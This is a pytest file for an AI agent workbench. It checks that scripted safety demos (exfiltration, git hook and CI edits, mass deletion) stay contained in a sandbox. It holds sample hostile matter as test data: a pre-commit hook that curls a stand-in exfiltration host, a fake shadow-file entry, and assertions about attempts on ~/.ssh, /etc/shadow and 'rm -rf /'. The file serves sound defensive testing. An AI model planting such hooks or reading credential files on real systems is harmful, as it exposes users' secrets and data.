"""Every sample task runs headless on the real engine and its check passes.

Each check is also shown to fail on a wrong outcome, and the safety demos prove
containment: the folder, a canary beside it and the host's /etc/passwd are
unchanged, nothing syncs without acceptance, and flagged paths stay flagged.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import FOLDER_UID, tree_hash

from workbench.agent.events import Event
from workbench.headless import RunRequest, RunResult, run_headless
from workbench.sandbox.session import SessionManager
from workbench.tasks import SampleTask, find_task, list_tasks

TOOLS = {"run", "read_file", "write_file", "list_files", "finish"}
CODING = ("fix-failing-test", "multi-file-change", "add-cli-option")
SAFETY = ("safety-exfiltration", "safety-git-hook-ci", "safety-destroy")

# How each task is synced in its run: "all" wherever the outcome allows it,
# "review" for the demo whose changes must never be accepted wholesale.
SYNC = {
    "fix-failing-test": "all",
    "multi-file-change": "all",
    "add-cli-option": "all",
    "safety-exfiltration": "all",
    "safety-git-hook-ci": "all",
    "safety-destroy": "review",
}


def _chown_tree(root: Path, uid: int) -> None:
    for base, dirs, names in os.walk(root):
        for name in [base, *(os.path.join(base, n) for n in dirs + names)]:
            os.lchown(name, uid, uid)


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class Run:
    """One headless run of a sample task and everything observed around it."""

    def __init__(self, task: SampleTask, root: Path) -> None:
        self.task = task
        self.root = root
        self.folder = task.copy_workspace(root)
        if os.geteuid() == 0:
            # A user's folder is theirs, not root's: this is the common case.
            _chown_tree(self.folder, FOLDER_UID)
        self.canary = root / "canary.txt"
        self.canary.write_text(f"outside the folder {secrets.token_hex(8)}\n")
        self.events: list[Event] = []
        self.result: RunResult | None = None

    def start(self, sync: str, secret: str) -> None:
        self.folder_before = tree_hash(self.folder)
        self.canary_before = _sha256(self.canary)
        self.passwd_before = _sha256(Path("/etc/passwd"))
        self.secret = secret
        request = RunRequest(
            folder=self.folder,
            prompt=self.task.prompt,
            model=self.task.model,
            approval="auto",
            sync=sync,
            command_timeout_s=self.task.command_timeout_s,
        )
        self.result = run_headless(request, self.events.append, _never_asked)

    def events_text(self) -> str:
        return "\n".join(json.dumps(event.to_json()) for event in self.events)

    def output(self) -> str:
        """Everything the sandbox printed, as the agent saw it."""
        return "".join(
            getattr(event, "text", "")
            for event in self.events
            if event.type == "output_received"
        )


async def _never_asked(event: object) -> object:
    raise AssertionError(f"auto mode asked about {event}")


@pytest.fixture(scope="module")
def runs(
    sandbox_image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Callable[[str], Run]]:
    """Run each task once per module, on demand; drop its session afterwards."""
    done: dict[str, Run] = {}
    secret = f"canary-{secrets.token_hex(12)}"
    os.environ["WORKBENCH_TEST_CANARY"] = secret  # the host environment

    def get(name: str) -> Run:
        if name not in done:
            run = Run(find_task(name), tmp_path_factory.mktemp(name))
            done[name] = run
            run.start(SYNC[name], secret)
        return done[name]

    yield get
    os.environ.pop("WORKBENCH_TEST_CANARY", None)
    manager = SessionManager()
    for run in done.values():
        if run.result is not None:
            manager.drop(run.result.session_id)
        shutil.rmtree(run.root, ignore_errors=True)


# The tasks as files.


def test_there_are_six_tasks_three_of_them_safety_demos() -> None:
    tasks = {task.name: task for task in list_tasks()}
    assert set(CODING + SAFETY) <= set(tasks)
    assert all(tasks[name].safety_demo for name in SAFETY)
    assert not any(tasks[name].safety_demo for name in CODING)


@pytest.mark.parametrize("name", CODING + SAFETY)
def test_task_files_follow_the_layout(name: str) -> None:
    task = find_task(name)
    assert task.title and task.prompt and task.description
    assert (task.workspace).is_dir() and any(task.workspace.iterdir())
    turns = json.loads(task.script.read_text())["turns"]
    calls = [call for turn in turns for call in turn["tool_calls"]]
    assert all(turn["text"] for turn in turns)
    assert {call["name"] for call in calls} <= TOOLS
    assert turns[-1]["tool_calls"][-1]["name"] == "finish"
    assert all(isinstance(v, str) for c in calls for v in c["arguments"].values())


# The checks can fail.


def _wrong_outcome(name: str, folder: Path) -> None:
    """Do to a copy what the task must not end with."""
    if name == "safety-exfiltration":
        (folder / "loot.txt").write_text("root:$6$salt$hash:19000:0:99999:7:::\n")
    elif name == "safety-git-hook-ci":
        hook = folder / ".git/hooks/pre-commit"
        hook.parent.mkdir(parents=True)
        hook.write_text("#!/bin/sh\ncurl http://exfil.invalid\n")
    elif name == "safety-destroy":
        shutil.rmtree(folder / "notes")


@pytest.mark.parametrize("name", CODING)
def test_coding_check_fails_on_the_starting_workspace(
    name: str, tmp_path: Path
) -> None:
    task = find_task(name)
    assert task.check(task.copy_workspace(tmp_path)) != []


@pytest.mark.parametrize("name", SAFETY)
def test_safety_check_fails_when_the_folder_was_harmed(
    name: str, tmp_path: Path
) -> None:
    task = find_task(name)
    folder = task.copy_workspace(tmp_path)
    assert task.check(folder) == []
    _wrong_outcome(name, folder)
    assert task.check(folder) != []


def test_fix_check_fails_when_the_test_was_edited_instead(tmp_path: Path) -> None:
    task = find_task("fix-failing-test")
    folder = task.copy_workspace(tmp_path)
    test_file = folder / "tests/test_price.py"
    test_file.write_text(test_file.read_text().replace("16.99", "16.9915"))
    assert any("tests/test_price.py" in p for p in task.check(folder))


# The real runs.


@pytest.mark.docker
@pytest.mark.parametrize("name", CODING)
def test_coding_task_runs_and_its_check_passes(
    name: str, runs: Callable[[str], Run]
) -> None:
    run = runs(name)
    result = run.result
    assert result is not None and result.outcome == "finished"
    assert result.exit_code == 0
    assert run.task.check(run.folder) == []
    assert result.sync.applied and not result.sync.pending
    assert [e.type for e in run.events][-1] == "task_finished"


@pytest.mark.docker
@pytest.mark.parametrize("name", SAFETY)
def test_safety_demo_leaves_the_host_alone(
    name: str, runs: Callable[[str], Run]
) -> None:
    run = runs(name)
    result = run.result
    assert result is not None and result.outcome == "finished"
    assert run.task.check(run.folder) == []
    assert _sha256(run.canary) == run.canary_before
    assert _sha256(Path("/etc/passwd")) == run.passwd_before
    assert run.secret not in run.events_text()
    if result.transcript is not None:
        assert run.secret not in result.transcript.read_text()


@pytest.mark.docker
def test_exfiltration_attempts_all_failed(runs: Callable[[str], Run]) -> None:
    run = runs("safety-exfiltration")
    text = run.output()
    assert tree_hash(run.folder) == run.folder_before
    assert "curl: command not found" in text
    assert "telemetry upload failed" in text and "telemetry sent" not in text
    assert "No such file or directory" in text  # no ~/.ssh in the sandbox
    assert "Permission denied" in text  # /etc/shadow
    assert "network interfaces: lo" in text


@pytest.mark.docker
def test_git_hook_and_ci_edit_are_flagged_and_never_applied(
    runs: Callable[[str], Run],
) -> None:
    run = runs("safety-git-hook-ci")
    sync = run.result.sync if run.result else None
    assert sync is not None
    for path in run.task.flagged:
        assert path in sync.flagged
        assert path in sync.pending and path not in sync.applied
    assert sync.applied == ("README.md",)
    assert not (run.folder / ".git").exists()


@pytest.mark.docker
def test_destroy_demo_syncs_nothing_without_acceptance(
    runs: Callable[[str], Run],
) -> None:
    run = runs("safety-destroy")
    result = run.result
    assert result is not None
    assert tree_hash(run.folder) == run.folder_before
    assert result.counts["deleted"] >= 5 and not result.sync.applied
    assert "notes/todo.md" in result.sync.pending
    text = run.output()
    assert "Resource temporarily unavailable" in text  # the pids limit held
    assert "rm -rf / exited 1" in text
